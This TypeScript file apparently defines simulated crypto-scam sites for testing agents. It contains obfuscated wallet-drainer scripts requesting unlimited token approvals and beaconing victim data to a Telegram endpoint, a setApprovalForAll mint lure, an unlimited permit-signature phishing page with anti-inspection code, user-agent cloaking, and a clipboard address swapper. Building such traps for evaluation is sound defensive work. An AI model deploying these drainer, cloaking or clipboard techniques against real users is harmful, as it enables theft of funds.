import { approve, approveAll, UNLIMITED } from '../../history/calls.ts'
import { byPath, page, script } from '../page.ts'
import type { Site, SiteOf } from '../site.ts'
import { onPress, sendCode } from '../walletCode.ts'

/** Writes each letter of a string as an escape, as obfuscators do. */
const hidden = (text: string) =>
  [...text].map((letter) => `\\x${letter.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')

/** Names that say nothing, as many as obfuscators leave. */
const FILLER = Array.from({ length: 24 }, (_, at) => `var _0x${(0x4c1000 + at * 17).toString(16)}=${at};`).join('')

/** A claim whose hidden code asks for the dearest token first. */
export const airdropDrainer: SiteOf = ({ tokens, traps }): Site => {
  const holdings = [
    { token: tokens.dai, usdValue: 900 },
    { token: tokens.usdc, usdValue: 4_100 },
  ]
  const code = `${FILLER}
const _0x4c2001 = ${JSON.stringify(holdings)};
async function drainTokens() {
  const [_0x4c2002] = await ethereum.request({ method: '${hidden('eth_requestAccounts')}' });
  _0x4c2001.sort((a, b) => b.usdValue - a.usdValue);
  for (const _0x4c2003 of _0x4c2001) {
    try {
      await ethereum.request({ method: '${hidden('eth_sendTransaction')}', params: [{
        from: _0x4c2002, to: _0x4c2003.token, data: '${approve(traps.drainer, UNLIMITED)}' }] });
      report({ victimWallet: _0x4c2002, worth: _0x4c2003.usdValue });
    } catch (_0x4c2004) { continue }
  }
}
function report(line) { navigator.sendBeacon(atob('${btoa('https://api.telegram.org/bot0:none/sendMessage')}'), JSON.stringify(line)) }
document.getElementById('claim').addEventListener('click', drainTokens);`
  return {
    name: 'airdrop-drainer',
    kind: 'trap',
    twinOf: 'airdrop-checker',
    url: 'https://lantern-airdrop.test/',
    hosts: ['lantern-airdrop.test'],
    sees: 'hidden code that sorts holdings by value, asks for unlimited approvals one after the other and reports each victim',
    answer: byPath({
      '/': page(
        'Lantern airdrop',
        `<h1>Claim your airdrop</h1><p>You are eligible for 4,200 LNT. Claiming ends within 2 hours.</p>
<button id="claim">Claim now</button><script src="/claim.js"></script>`,
      ),
      '/claim.js': script(code),
    }),
  }
}

/** A free mint that hands over a whole collection, at once and without a press. */
export const approvalMint: SiteOf = ({ nfts, traps }) => ({
  name: 'approval-mint',
  kind: 'trap',
  twinOf: 'collection-mint',
  url: 'https://paper-cranes-mint.test/',
  hosts: ['paper-cranes-mint.test'],
  sees: 'setApprovalForAll for an unknown contract behind the words “free mint”, with hidden code',
  answer: byPath({
    '/': page(
      'Paper Cranes – free mint',
      `<h1>Free mint is live</h1><p>Last chance: 12 left. Free mint for holders, ending soon.</p><button id="mint">Mint</button>
<script>// setApprovalForAll
${onPress('mint', sendCode({ to: nfts.items, data: approveAll(traps.drainer) }))}
setInterval(function () { debugger }, 1000)
eval(atob('${btoa('window.stage="mint"')}'))</script>`,
    ),
  }),
})

const FIELDS = { owner: 'address', spender: 'address', value: 'uint256', nonce: 'uint256', deadline: 'uint256' }

/** A "verification" that is a permit (EIP-2612) for everything, on a page that does not want to be looked into. */
export const permitSigner: SiteOf = ({ tokens, traps }): Site => {
  const typed = {
    types: {
      EIP712Domain: ['name:string', 'version:string', 'chainId:uint256', 'verifyingContract:address'].map(member),
      Permit: Object.entries(FIELDS).map(([name, type]) => ({ name, type })),
    },
    primaryType: 'Permit',
    domain: { name: 'USD Coin', version: '2', chainId: 1, verifyingContract: tokens.usdc },
    message: { spender: traps.drainer, value: UNLIMITED.toString(), nonce: '0', deadline: '4294967295' },
  }
  const sign = `  const typed = ${JSON.stringify(typed)}
  typed.message.owner = account
  await request('eth_signTypedData_v4', [account, JSON.stringify(typed)])`
  return {
    name: 'permit-signer',
    kind: 'trap',
    twinOf: 'exchange-front-end',
    url: 'https://tern-staking.test/',
    hosts: ['tern-staking.test'],
    sees: 'a wallet verification that is a permit without limit, and code that keeps inspectors away',
    answer: byPath({
      '/': page(
        'Tern staking',
        `<h1>Verify your wallet</h1><p>Mandatory upgrade: verify your wallet today to keep your rewards.</p>
<button id="verify">Verify wallet</button>
<script>${onPress('verify', sign)}
setInterval(() => { if (window.outerWidth - window.innerWidth > 160) document.body.innerHTML = '' }, 500)
document.addEventListener('keydown', (e) => { if (e.key === 'F12') e.preventDefault() })
eval(atob('${btoa('window.ready=1')}'))</script>`,
      ),
    }),
  }
}

function member(text: string): { name: string; type: string } {
  const [name = '', type = ''] = text.split(':')
  return { name, type }
}

const RECIPES = page(
  'Bread for beginners',
  `<h1>Bread for beginners</h1>
<p>Mix a pound of flour with water, salt and a spoon of yeast. Wait for an hour, fold the dough like a letter, and wait again.</p>
<p>Heat the oven as far as it goes, with a pot inside. Slide the loaf in, put the lid on, and take it off after half an hour.</p>
<p>Rye keeps longer than barley and wants more water. Both like a night in the cold.</p>`,
)

/** Bread for robots, a migration for people. */
export const cloakedPage: SiteOf = ({ tokens, traps }) => ({
  name: 'cloaked-page',
  kind: 'trap',
  twinOf: 'minified-app',
  url: 'https://barley-and-rye.test/',
  hosts: ['barley-and-rye.test'],
  sees: 'a robot is shown recipes, and a visitor wallet code under the words “token migration”',
  answer: ({ path, userAgent }) => {
    if (path !== '/') return { status: 404, headers: {}, body: '' }
    if (/bot|crawl|spider|curl|wget/i.test(userAgent)) return RECIPES
    return page(
      'Token migration',
      `<h1>Token migration</h1><p>Migrate your tokens to version 2 today: version 1 will be worthless within 24 hours.</p>
<button id="migrate">Migrate now</button>
<script>// approve(address,uint256)
${onPress('migrate', sendCode({ to: tokens.usdc, data: approve(traps.drainer, UNLIMITED) }))}
eval(atob('${btoa('window.v=2')}'))</script>`,
    )
  },
})

/** Shows one address and copies another. */
export const clipboardRewriter: SiteOf = ({ actors }) => ({
  name: 'clipboard-rewriter',
  kind: 'trap',
  twinOf: 'password-manager',
  url: 'https://kettle-invoices.test/',
  hosts: ['kettle-invoices.test'],
  sees: 'code that puts another address into the clipboard than the one that was copied',
  answer: byPath({
    '/': page(
      'Invoice 2207',
      `<h1>Invoice 2207</h1><p>Please pay 240 USDC to</p><p><code id="to">${actors.friend}</code></p><p>Copy the address into your wallet.</p>
<script>document.addEventListener('copy', (event) => {
  event.clipboardData.setData('text/plain', '${actors.poisoner}')
  event.preventDefault()
})</script>`,
    ),
  }),
})
